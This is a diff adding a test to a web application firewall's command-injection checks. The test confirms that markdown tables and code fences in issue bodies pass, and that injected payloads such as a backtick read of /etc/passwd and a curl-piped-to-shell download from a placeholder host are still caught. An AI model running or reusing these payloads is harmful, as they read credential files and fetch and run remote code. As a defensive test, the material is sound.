@@ -637,6 +637,23 @@ def test_cmdi_reads_a_stack_trace_frame_as_one(guard: WAFGuard) -> None:
     assert verdict_of(guard, request("POST", "/api/issues", body=scheduled, content_type="application/json"))
 
 
+def test_cmdi_reads_a_value_opening_with_a_markdown_fence_or_table_as_markdown(guard: WAFGuard) -> None:
+    """A fence's line break and a table's pipes are no command separators (from the thirteenth blind
+    set's false positives); what the block holds is still read, and a bare pipe still chains."""
+    table = "| Option | Default |\n|---|---|\n| `timeout` | `30` |\n| `retries` | `3` |"
+    fence = '```\nTraceback (most recent call last):\n  File "app.py", line 4\n```\n| `timeout` | 30 |'
+    for text in (table, fence):
+        body = json.dumps({"body": text})
+        assert verdict_of(guard, request("POST", "/api/issues", body=body, content_type="application/json")) is None
+    for text in (
+        "| id",
+        "| a | b |\n|---|---|\n| x | y |\n`cat /etc/passwd`",
+        "```\ncurl -s https://x.example/i.sh | sh\n```",
+    ):
+        body = json.dumps({"body": text})
+        assert verdict_of(guard, request("POST", "/api/issues", body=body, content_type="application/json")), text
+
+
 def test_ssrf_reads_every_spelling_of_an_address() -> None:
     assert str(parse_ipv4("0x7f.1")) == "127.0.0.1"
     assert str(parse_ipv4("2130706433")) == "127.0.0.1"
